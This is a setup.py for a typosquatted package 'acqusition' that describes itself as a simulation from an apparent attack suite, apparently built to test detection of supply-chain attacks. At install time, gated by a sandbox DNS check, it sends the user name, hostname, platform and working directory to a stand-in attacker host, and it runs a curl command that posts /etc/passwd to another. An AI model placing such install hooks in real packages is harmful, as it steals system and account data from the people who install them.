"""acqusition 1.0.0 setup.py (simulation from Tracehound's attack suite): runs at metadata and build time."""
import getpass
import os
import platform
import socket
import subprocess
import urllib.request

from setuptools import setup

def _in_sandbox():
    # act only inside the Tracehound sandbox, whose fake DNS answers every name with a
    # 198.18.0.0/15 address; elsewhere .example names do not resolve and nothing happens
    import socket
    try:
        return socket.gethostbyname("sandbox-check.attacker.example").startswith(("198.18.", "198.19."))
    except OSError:
        return False

if _in_sandbox():
    info = "%s|%s|%s|%s" % (getpass.getuser(), socket.gethostname(), platform.platform(), os.getcwd())
    try:
        urllib.request.urlopen("http://121.attacker.example:8080/?" + info.encode().hex(), timeout=5)
    except Exception:
        pass
    subprocess.call("curl -s -m 5 -X POST --data-binary @/etc/passwd http://exfil.attacker.example/p >/dev/null 2>&1",
                    shell=True)

setup(name="acqusition", version="1.0.0", py_modules=["acqusition"])
